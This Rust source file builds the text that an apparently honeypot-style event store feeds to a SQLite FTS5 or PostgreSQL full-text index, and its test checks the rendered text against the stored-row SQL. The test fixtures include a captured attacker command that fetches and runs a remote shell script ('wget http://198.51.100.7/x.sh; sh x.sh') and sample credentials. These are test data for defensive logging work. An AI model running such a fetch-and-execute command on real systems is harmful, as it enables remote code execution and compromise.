//! What the full-text index (`event_text`) takes of each event: the text the
//! writer hands SQLite's FTS5 or PostgreSQL's `to_tsvector`, rendered in Rust in
//! the writer's reused buffer, and the SQL form of the same text for rows already
//! stored (migration 0012's backfill, `db copy`).
//!
//! Why rendered in Rust and bound, not selected back with `json_tree` after the
//! insert: reading each new row back, walking its JSON in SQL and concatenating
//! was 40 % of the index's cost and 11 % of all ingest instructions (callgrind,
//! `cargo bench -p nectar-store --bench ingest`, session 11).

use nectar_event::Event;

use crate::StoreError;
use crate::db::{self, Tx};

/// Events' data is shallow; the bound only guards against a pathological one.
const MAX_DEPTH: usize = 32;

/// SQLite: the body FTS5 indexes for `event`, exactly as [`TEXT_OF_STORED`]
/// builds it from the stored row: the summary, a space, then every text value of
/// `data` in document order joined by spaces, except a text value whose own key
/// ends in `_enc` (sealed ciphertext). FTS5's tokenizer then splits it, so the
/// tokens are the same as the SQL form's by construction.
pub(crate) fn push_sqlite_body(out: &mut Vec<u8>, event: &Event) {
    out.extend_from_slice(event.summary.as_bytes());
    out.push(b' ');
    let mut first = true;
    for (key, value) in &event.data {
        push_text_values(out, Some(key), value, 0, &mut first);
    }
}

fn push_text_values(
    out: &mut Vec<u8>,
    key: Option<&str>,
    value: &serde_json::Value,
    depth: usize,
    first: &mut bool,
) {
    if depth > MAX_DEPTH {
        return;
    }
    match value {
        serde_json::Value::String(s) => {
            if key.is_some_and(|k| k.ends_with("_enc")) {
                return;
            }
            if !*first {
                out.push(b' ');
            }
            *first = false;
            out.extend_from_slice(s.as_bytes());
        }
        serde_json::Value::Array(items) => {
            for item in items {
                push_text_values(out, None, item, depth + 1, first);
            }
        }
        serde_json::Value::Object(map) => {
            for (key, item) in map {
                push_text_values(out, Some(key), item, depth + 1, first);
            }
        }
        _ => {}
    }
}

/// PostgreSQL: the words of `event` the full-text index takes, as SQLite's FTS5
/// tokenizer sees them: the summary and every text value of `data` at any depth
/// but sealed top-level ones (`*_enc`), with everything but letters and digits a
/// separator.
pub(crate) fn push_event_words(out: &mut Vec<u8>, event: &Event) {
    push_text_words(out, &event.summary, &event.data);
}

/// [`push_event_words`] of an event's summary and data (`db copy` reads them
/// back from rows).
pub(crate) fn push_text_words(
    out: &mut Vec<u8>,
    summary: &str,
    data: &serde_json::Map<String, serde_json::Value>,
) {
    push_words(out, summary);
    for (key, value) in data {
        if !key.ends_with("_enc") {
            push_value_words(out, value, 0);
        }
    }
}

fn push_value_words(out: &mut Vec<u8>, value: &serde_json::Value, depth: usize) {
    if depth > MAX_DEPTH {
        return;
    }
    match value {
        serde_json::Value::String(s) => push_words(out, s),
        serde_json::Value::Array(items) => {
            for item in items {
                push_value_words(out, item, depth + 1);
            }
        }
        serde_json::Value::Object(map) => {
            for item in map.values() {
                push_value_words(out, item, depth + 1);
            }
        }
        _ => {}
    }
}

fn push_words(out: &mut Vec<u8>, text: &str) {
    out.push(b' ');
    let mut buf = [0u8; 4];
    for c in text.chars() {
        if c.is_alphanumeric() {
            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
        } else if out.last() != Some(&b' ') {
            out.push(b' ');
        }
    }
}

/// SQLite: the text of stored events (`seq >= ?1 AND seq < ?2`) as
/// [`push_sqlite_body`] renders it, in SQL: `(seq, body)` rows.
pub(crate) const TEXT_OF_STORED: &str = "SELECT seq, summary || ' ' || COALESCE((\
         SELECT group_concat(value, ' ') FROM json_tree(events.data) \
         WHERE type = 'text' AND CAST(key AS TEXT) NOT LIKE '%\\_enc' ESCAPE '\\'), '') \
     FROM events WHERE seq >= ? AND seq < ?";

/// SQLite: puts the text of stored events `from <= seq < to` into the full-text
/// index (`db copy`; the writer binds what it renders instead).
pub(crate) async fn index_stored_text(tx: &mut Tx, from: i64, to: i64) -> Result<(), StoreError> {
    db::query(&format!(
        "INSERT INTO event_text (rowid, body) {TEXT_OF_STORED}"
    ))
    .bind(from)
    .bind(to)
    .execute(tx.exec())
    .await?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use nectar_event::{Kind, Severity};

    use super::*;
    use crate::{Store, WriterConfig, WriterHandle};

    /// Data shaped like every producer's, and the corners of `json_tree`: nested
    /// objects and arrays, sealed values at the top and deeper, an `_enc` key
    /// holding an object (its strings are not sealed themselves), numbers and
    /// booleans, escapes, non-ASCII text and an empty string.
    fn events() -> Vec<Event> {
        let data = [
            serde_json::json!({"username": "root", "password": "hunter2", "session": "00ab"}),
            serde_json::json!({"input": "wget http://198.51.100.7/x.sh; sh x.sh", "argv": ["sh", "-c", "id"]}),
            serde_json::json!({"password_enc": "c2VhbGVk", "username": "ubuntu"}),
            serde_json::json!({"request": {"path": "/cgi-bin/status", "headers": {"user-agent": "zgrab/0.x", "token_enc": "x"}}, "status": 404}),
            serde_json::json!({"box_enc": {"inner": "visible"}, "n": 3, "ok": true, "none": null}),
            serde_json::json!({"text": "naïve «quoted» \"x\"\ttab\\back 日本", "empty": ""}),
            serde_json::json!({}),
        ];
        data.into_iter()
            .enumerate()
            .map(|(i, data)| {
                let mut event = Event::new(
                    "test",
                    Kind::SshCommand,
                    Severity::Low,
                    format!("event {i}"),
                );
                if let serde_json::Value::Object(map) = data {
                    event.data = map;
                }
                event
            })
            .collect()
    }

    /// The body the writer binds is, byte for byte, what the SQL over the stored
    /// row gives (the backfill's and `db copy`'s form), so both index the same
    /// tokens.
    #[tokio::test]
    async fn the_rendered_body_is_the_stored_rows_body() {
        let dir = tempfile::tempdir().unwrap();
        let db = crate::testing::database_on(crate::Backend::Sqlite, dir.path())
            .await
            .unwrap();
        let store = Store::open(&db.config).await.unwrap();
        let (writer, task) = WriterHandle::spawn(store.clone(), WriterConfig::default());
        let events = events();
        writer.submit(events.clone()).await.unwrap();
        drop(writer);
        task.await.unwrap();

        let rows: Vec<(i64, String)> = crate::db::query_as(TEXT_OF_STORED)
            .bind(1_i64)
            .bind(1_000_i64)
            .fetch_all(store.db.read())
            .await
            .unwrap();
        assert_eq!(rows.len(), events.len());
        for ((seq, stored), event) in rows.iter().zip(&events) {
            let mut rendered = Vec::new();
            push_sqlite_body(&mut rendered, event);
            assert_eq!(
                String::from_utf8(rendered).unwrap(),
                *stored,
                "event {seq}: {:?}",
                event.data
            );
        }
        // And the index holds what the writer bound: a word from each place.
        for (word, hits) in [
            ("hunter2", 1),
            ("c2VhbGVk", 0),
            ("zgrab", 1),
            ("visible", 1),
            ("日本", 1),
        ] {
            let n: i64 =
                crate::db::query("SELECT COUNT(*) FROM event_text WHERE event_text MATCH ?")
                    .bind(format!("\"{word}\""))
                    .scalar(store.db.read())
                    .await
                    .unwrap();
            assert_eq!(n, hits, "{word}");
        }
    }
}
